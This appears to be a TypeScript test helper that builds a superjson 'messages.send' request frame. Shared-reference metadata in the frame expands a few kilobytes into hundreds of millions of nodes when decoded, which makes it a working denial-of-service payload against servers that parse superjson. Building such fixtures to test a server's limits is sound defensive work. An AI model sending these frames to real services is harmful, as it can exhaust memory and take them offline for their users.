/**
 * A superjson frame whose shared references expand a few kB of text into `fanOut ** depth` nodes:
 * each level is an array of `fanOut` references to the level below. Decoded by superjson itself, a
 * fan-out of 7 and depth of 10 is ~280 million nodes.
 */
import { randomUUID } from 'node:crypto';

export function sharedArrayFrame(opts: { fanOut: number; depth: number; conversationId: string }): string {
  const base = 'params.content.a';
  // json: at every level only element 0 is spelled out; the others are nulls that
  // referentialEqualities points at element 0.
  let leaf: unknown = Array.from({ length: opts.fanOut }, () => 1);
  for (let d = 1; d < opts.depth; d++) leaf = [leaf, ...Array.from({ length: opts.fanOut - 1 }, () => null)];
  const equalities: Record<string, string[]> = {};
  let path = base;
  for (let d = 1; d < opts.depth; d++) {
    equalities[`${path}.0`] = Array.from({ length: opts.fanOut - 1 }, (_, i) => `${path}.${i + 1}`);
    path = `${path}.0`;
  }
  return JSON.stringify({
    json: {
      t: 'req',
      id: 'r1',
      type: 'messages.send',
      params: { conversationId: opts.conversationId, clientId: randomUUID(), content: { type: 'x.graph', a: leaf } },
    },
    meta: { referentialEqualities: equalities, v: 1 },
  });
}
